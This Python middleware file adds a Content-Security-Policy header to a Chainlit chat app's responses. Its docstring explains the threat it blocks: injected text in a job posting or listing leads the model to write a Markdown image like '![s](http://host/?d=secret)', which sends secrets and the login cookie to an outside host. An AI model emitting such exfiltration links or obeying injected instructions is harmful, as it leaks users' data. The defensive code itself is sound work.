"""A Content-Security-Policy on every answer: pages load and send nothing to another origin.

Replies are Markdown rendered by the browser, and a remote image in one (``![s](http://host/
?d=secret)``, from a model told so by a job posting, or a name in a listing) was fetched as
soon as it was shown: the data in its address left, and the login cookie went along to any
port of this host (cookies are not scoped by port). Markdown built by the app escapes people's
words (``documents/markdown_text.py``); this policy is the net under all Markdown, the model's
included: images, fonts, media, frames, workers and connections only from this origin.

What Chainlit's page needs, checked in Chromium (tests/browser/test_remote_content.py):

- two inline scripts (``const global = globalThis`` and the theme variables): allowed by the
  SHA-256 of each, computed from the page as served, so no other inline script runs;
- ``'unsafe-eval'``: custom elements (``public/elements/*.jsx``, the Markdown editor) are
  compiled in the browser and run with ``new Function``;
- inline styles (React's ``style`` attributes, our own pages' ``<style>``): ``'unsafe-inline'``
  for styles only;
- ``blob:`` workers and ``data:``/``blob:`` images and media (PDF previews, uploads' thumbnails);
- the chat socket and API on this origin (``connect-src 'self'`` covers ws: of the same host).
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import re
import zlib

from starlette.datastructures import MutableHeaders
from starlette.types import ASGIApp, Message, Receive, Scope, Send

HEADER = "Content-Security-Policy"
# Inline <script> elements: no src attribute; their exact text is what the browser hashes.
INLINE_SCRIPT = re.compile(
    r"<script\b(?![^>]*\bsrc\s*=)[^>]*>(.*?)</script\s*>", re.IGNORECASE | re.DOTALL
)
MAX_HTML_BYTES = 2_000_000  # a page larger than this is not ours; its inline scripts stay off

POLICY = (
    ("default-src", "'self'"),
    ("script-src", "'self' 'unsafe-eval'"),
    ("style-src", "'self' 'unsafe-inline'"),
    ("img-src", "'self' data: blob:"),
    ("font-src", "'self' data:"),
    ("media-src", "'self' data: blob:"),
    ("connect-src", "'self'"),
    ("worker-src", "'self' blob:"),
    ("frame-src", "'self'"),
    ("object-src", "'none'"),
    ("base-uri", "'self'"),
    ("form-action", "'self'"),
    ("frame-ancestors", "'none'"),
)


def script_hashes(html: str) -> list[str]:
    digests = []
    for body in INLINE_SCRIPT.findall(html):
        digest = hashlib.sha256(body.encode()).digest()
        digests.append(f"'sha256-{base64.b64encode(digest).decode()}'")
    return sorted(set(digests))


def policy(html: str = "") -> str:
    hashes = script_hashes(html) if html else []
    return "; ".join(
        f"{name} {sources}{''.join(' ' + h for h in hashes) if name == 'script-src' else ''}"
        for name, sources in POLICY
    )


def _readable(page: bytes, headers: MutableHeaders) -> str:
    """The page's text; Chainlit's GZip middleware, inside this one, may have compressed it."""
    if headers.get("content-encoding", "").strip().lower() == "gzip":
        try:
            page = gzip.decompress(page)
        except (OSError, EOFError, zlib.error):
            return ""  # not a page we can read: no inline script is allowed
    return page.decode("utf-8", "replace")


class ContentPolicy:
    """Adds the policy to every HTTP answer; HTML pages get their inline scripts' hashes."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        start: Message | None = None
        body: list[bytes] = []

        async def send_with_policy(message: Message) -> None:
            nonlocal start
            if message["type"] == "http.response.start":
                headers = MutableHeaders(scope=message)
                if not headers.get("content-type", "").startswith("text/html"):
                    headers[HEADER] = policy()
                    await send(message)
                    return
                start = message  # held until the page is complete: its scripts are hashed
                return
            if start is None or message["type"] != "http.response.body":
                await send(message)
                return
            body.append(message.get("body", b""))
            if message.get("more_body") and sum(map(len, body)) <= MAX_HTML_BYTES:
                return
            page = b"".join(body)
            headers = MutableHeaders(scope=start)
            complete = not message.get("more_body")
            headers[HEADER] = policy(_readable(page, headers) if complete else "")
            await send(start)
            start = None
            await send({"type": "http.response.body", "body": page,
                        "more_body": message.get("more_body", False)})

        await self.app(scope, receive, send_with_policy)
